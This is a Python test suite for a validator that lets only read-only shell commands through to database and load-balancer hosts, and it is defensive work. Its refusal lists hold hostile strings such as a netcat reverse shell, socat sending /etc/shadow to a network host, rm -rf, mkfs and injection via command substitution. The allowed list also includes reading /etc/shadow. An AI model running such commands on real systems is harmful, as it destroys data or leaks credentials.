"""A line gets through only if it reads; whatever could change a host is refused wherever it is put."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from systems.readonly import is_read_only, refuse_unless_read_only
from systems.readonly_table import PROGRAMS
from systems.shell import Probe

READS = [
    "uname -n",
    "systemctl show mariadb -p ActiveState,SubState --no-pager",
    "systemctl is-active mysql@bootstrap mariadb",
    "journalctl -u mariadb -n 50 --no-pager -b -1",
    "cat /var/lib/mysql/grastate.dat",
    "LC_ALL=C df -P -k /var/lib/mysql 2>/dev/null | tail -1",
    "sudo -n cat /etc/shadow",
    "sudo -n -u mysql test -w /var/lib/mysql",
    "sudo -n -l",
    "sudo -n true",
    "timeout 5 sudo -n cat /x; echo ok",
    "sed -n '/foo/,/bar/p' x",
    "sed -n '1,5p;6q' x",
    "sed -n 's/^seqno: *//p' /var/lib/mysql/grastate.dat",
    "sed -n 's/[[:space:]]*x//p' y",
    "mariadb -NB -e 'SHOW GLOBAL STATUS' 2>&1",
    "mysql --defaults-file=/root/.my.cnf --init-command='SET SESSION TRANSACTION READ ONLY' -e 'SELECT 1'",
    "find /var -name '*.log' -mtime -1 -size +10M",
    "ip -o addr show",
    "ip r",
    "ss -ltn 'sport = :3306'",
    "command -v mariadbd || command -v mysqld",
    "mysqld --verbose --help 2>/dev/null | grep -E '^datadir'",
    "mariadbd --defaults-file=/etc/my.cnf --print-defaults",
    "/usr/sbin/mysqld --version",
    "test -e /x && echo yes || echo no",
    "[ -d /run/systemd/system ] && echo systemd",
    "openssl x509 -noout -enddate -in /etc/x.pem",
    r"rpm -q --qf '%{VERSION}\n' mariadb",
    "grep foo$ /etc/passwd",
    'grep "foo$" /etc/passwd',
    "nc -z -w 2 10.0.0.1 4567",
    "sysctl -n net.ipv4.ip_forward",
    "ls -l /x/*.log",
    "date -u +%s",
    "hostname -f",
    "dpkg-query -W -f='${Version}' x",
    "tail -n 100 -F /var/log/x",
    "nice -n 19 du -sk /var/lib/mysql",
    "uname -r\nuname -n",
    "echo 'show info;show stat' | socat -t5 - UNIX-CONNECT:/run/haproxy/admin.sock",
    "echo 'show servers state' | nc -w 5 -U /var/run/haproxy.sock",
    r"printf 'GET / HTTP/1.0\r\n\r\n' | socat -t3 - TCP:10.77.0.11:9200,connect-timeout=3",
    r"printf 'GET / HTTP/1.0\r\n\r\n' | socat -t3 - TCP:[fd00::1]:9200,connect-timeout=3",
    "socat -u /dev/null TCP:10.77.0.11:3306,connect-timeout=2",
    r"printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 3 10.77.0.11 9200",
    "haproxy -c -f /etc/haproxy/haproxy.cfg",
]

CHANGES = [
    "rm x",
    "echo 'set server orders/db1 state maint' | socat -t5 - UNIX-CONNECT:/run/haproxy/admin.sock",
    "echo 'show stat;set server orders/db1 state maint' | socat -t5 - UNIX-CONNECT:/run/haproxy/admin.sock",
    "echo 'show stat' | socat -t5 - EXEC:reboot",
    "socat -u /etc/shadow TCP:10.77.0.11:3306,connect-timeout=2",
    "socat -u /dev/null TCP:10.77.0.11:3306,connect-timeout=2,fork",
    "socat -u TCP:10.77.0.11:3306,connect-timeout=2 /dev/null",
    "echo 'show stat' | socat -t5 - UNIX-CONNECT:/x,fork",
    "echo 'show stat' | socat -t5 /etc/x UNIX-CONNECT:/run/haproxy/admin.sock",
    "echo 'show stat'; socat -t5 - UNIX-CONNECT:/run/haproxy/admin.sock",
    "cat /x | socat -t5 - UNIX-CONNECT:/run/haproxy/admin.sock",
    "echo -e 'show stat' | nc -w 5 -U /run/haproxy/admin.sock",
    r"printf 'DELETE / HTTP/1.0\r\n\r\n' | socat -t3 - TCP:10.77.0.11:9200,connect-timeout=3",
    r"printf 'GET /stop HTTP/1.0\r\n\r\n' | nc -w 3 10.77.0.11 9200",
    r"printf 'GET / HTTP/1.0\r\n\r\n' | socat -t3 - TCP:10.77.0.11:9200,connect-timeout=3,fork",
    r"printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 3 -e 9200",
    r"printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 3 -l 9200",
    "haproxy -f /etc/haproxy/haproxy.cfg",
    "haproxy -c -f /etc/haproxy/haproxy.cfg -D",
    "socat -t5 - UNIX-CONNECT:/run/haproxy/admin.sock",
    "nc -w 5 -U /run/haproxy/admin.sock",
    "cat x > y",
    "cat x >> y",
    "cat x>y",
    "sed -i s/a/b/ x",
    "sed -n -i p x",
    "sed -n '1w /tmp/x' y",
    "sed -n 's/a/b/w /tmp/x' y",
    "sed -n 's/a/b/e' y",
    "sed -n '/[/s/]/w x/p' y",
    "sed -n p x -i",
    "sort -o x y",
    "sort --compress-program=rm x",
    "find . -delete",
    "find . -exec rm '{}' +",
    "find . -fprint x",
    "find . -name -delete",
    "echo $(rm x)",
    "echo `rm x`",
    'echo "$(rm)"',
    "echo $HOME",
    "cat x | tee y",
    "dd if=/dev/zero of=x",
    "systemctl start x",
    "systemctl -H other status x",
    "journalctl --vacuum-size=1",
    "journalctl -n --vacuum-size=1G",
    "journalctl --rotate",
    "journalctl --cursor-file=x",
    "dmesg -c",
    "dmesg -Tc",
    "sudo rm x",
    "sudo cat x",
    "sudo -n rm x",
    "sysctl -w a=1",
    "sysctl a=1",
    "sysctl -p",
    "ip link set eth0 down",
    "ip addr add x dev y",
    "ip -b file",
    "ip -batch file",
    "date 010101",
    "date -s x",
    "hostname foo",
    "hostname -F x",
    "timedatectl set-time x",
    "cat x &",
    "cat x &>/dev/null",
    "X=1 cat y",
    "LD_PRELOAD=x cat y",
    "PATH=/tmp cat y",
    "LC_ALL=C",
    "command rm x",
    "mysqld",
    "mysqld --verbose",
    "mysqld --validate-config",
    "mysqld --plugin-load=x --help",
    "mysqld --wsrep-recover --help",
    "mariadb -e 'DROP TABLE x'",
    "mariadb </dev/null",
    "mariadb -p -e 'SELECT 1'",
    r"mariadb -e 'SELECT 1 \! rm'",
    "mariadb -e 'SELECT 1\nsystem rm'",
    "mariadb --tee=x -e 'SELECT 1'",
    "nft list ruleset ';' flush ruleset",
    "printf -v PATH /tmp",
    "sort *",
    "cat *",
    "sort -*",
    "/tmp/cat x",
    "./cat x",
    "{rm,x}",
    "cat {-a,x}",
    "rpm -i x",
    "rpm -e x",
    "rpm -q --pipe 'rm x' y",
    "rpm -q --eval '%(rm x)'",
    "openssl x509 -noout -out x",
    "openssl x509 -in x",
    "uniq a b",
    "awk 1",
    "xargs rm",
    "env rm x",
    "sh -c 'rm x'",
    "nohup cat",
    "keepalived",
    "keepalived -V",
    "(rm x)",
    "! rm",
    "if true; then rm x; fi",
    "timeout 5 rm x",
    "timeout -s KILL 5 rm x",
    "nice rm x",
    "nice -n 5 rm x",
    "cat x\nrm y",
    "ss -K dst x",
    "ss -D x",
    "nc -l 80",
    "nc -e /bin/sh host 1",
    "iptables -F",
    "iptables -L -F",
    "nstat",
    "nstat -r -s",
    "cat /dev/./watchdog",
    "grep x <<< y",
    "cat <x",
    "cat <(rm x)",
    "cat x # rm",
    "",
    ";",
    "cat x |",
    "| cat",
    "cat x\\",
    "cat 'x",
    'cat "x',
    "cat\x00x",
    "cat \x1b[0m",
    "dpkg -i x",
    "apt-cache -o x policy y",
    "chronyc makestep",
    "firewall-cmd --reload",
    "firewall-cmd --add-port=1/tcp",
]


@pytest.mark.parametrize("line", READS)
def test_a_line_that_reads_gets_through(line: str) -> None:
    refuse_unless_read_only(line)
    assert is_read_only(line)


@pytest.mark.parametrize("line", CHANGES)
def test_a_line_that_could_change_something_is_refused(line: str) -> None:
    assert not is_read_only(line)
    with pytest.raises(ValueError, match="not a line that only reads"):
        Probe(line)


def test_the_refusal_names_the_word() -> None:
    with pytest.raises(ValueError, match="'rm' is not on the list"):
        refuse_unless_read_only("uname -n && rm -rf /")


DANGEROUS = [
    "rm -rf /x",
    "systemctl start mariadb",
    "systemctl stop mariadb",
    "sed -i s/a/b/ /x",
    "tee /x",
    "dd if=/a of=/b",
    "mv a b",
    "cp a b",
    "chmod 777 /x",
    "kill 1",
    "reboot",
    "mkfs /dev/sda",
    "touch /x",
    "truncate -s 0 x",
    "python3 -c 1",
    "perl -e 1",
    "bash -c 1",
    "eval rm",
    "exec rm",
    ". /x",
    "galera_new_cluster",
    "mysqladmin shutdown",
]
HARMLESS = st.sampled_from(
    ["uname -n", "cat /etc/hosts", "true", "LC_ALL=C df -P", "echo 'a b'", "sudo -n true"]
)
BETWEEN = st.sampled_from(
    ["; ", " ;", " && ", " || ", " | ", "\n", " | sudo -n ", "; timeout 5 ", "; nice -n 1 "]
)


@given(
    st.lists(st.tuples(HARMLESS, BETWEEN)), st.sampled_from(DANGEROUS), st.lists(st.tuples(BETWEEN, HARMLESS))
)
def test_one_dangerous_command_spoils_every_line(
    before: list[tuple[str, str]], dangerous: str, after: list[tuple[str, str]]
) -> None:
    line = "".join(a + b for a, b in before) + dangerous + "".join(a + b for a, b in after)
    assert not is_read_only(line)


@given(
    HARMLESS,
    st.sampled_from(["$(%s)", "`%s`", '"$(%s)"', "<(%s)", "& %s", "(%s)", "{ %s; }"]),
    st.sampled_from(DANGEROUS),
)
def test_no_expansion_hides_a_command(harmless: str, form: str, dangerous: str) -> None:
    assert not is_read_only(f"{harmless} {form % dangerous}")


@given(
    st.sampled_from([">", ">>", "1>", "2>", ">|", "<>", "&>", ">& "]),
    st.sampled_from(["/etc/x", "x", "/dev/nullx", "/dev/sda"]),
)
def test_no_redirection_writes(redirection: str, target: str) -> None:
    for line in (
        f"cat x {redirection}{target}",
        f"cat x {redirection} {target}",
        f"{redirection}{target} cat x",
    ):
        assert not is_read_only(line)


@given(st.text(alphabet=" ;|&$`'\"\\(){}<>*?[]#!~=-ab/\n", max_size=30))
def test_a_line_either_is_proven_or_is_refused_in_a_sentence(line: str) -> None:
    if not is_read_only(line):
        with pytest.raises(ValueError, match="not a line that only reads"):
            refuse_unless_read_only(line)


def test_no_program_is_listed_that_runs_others_or_writes_by_trade() -> None:
    makers = {
        "sh",
        "bash",
        "rm",
        "env",
        "xargs",
        "awk",
        "tee",
        "dd",
        "eval",
        "exec",
        "python3",
        "perl",
        "cp",
        "mv",
    }
    assert not makers & set(PROGRAMS)
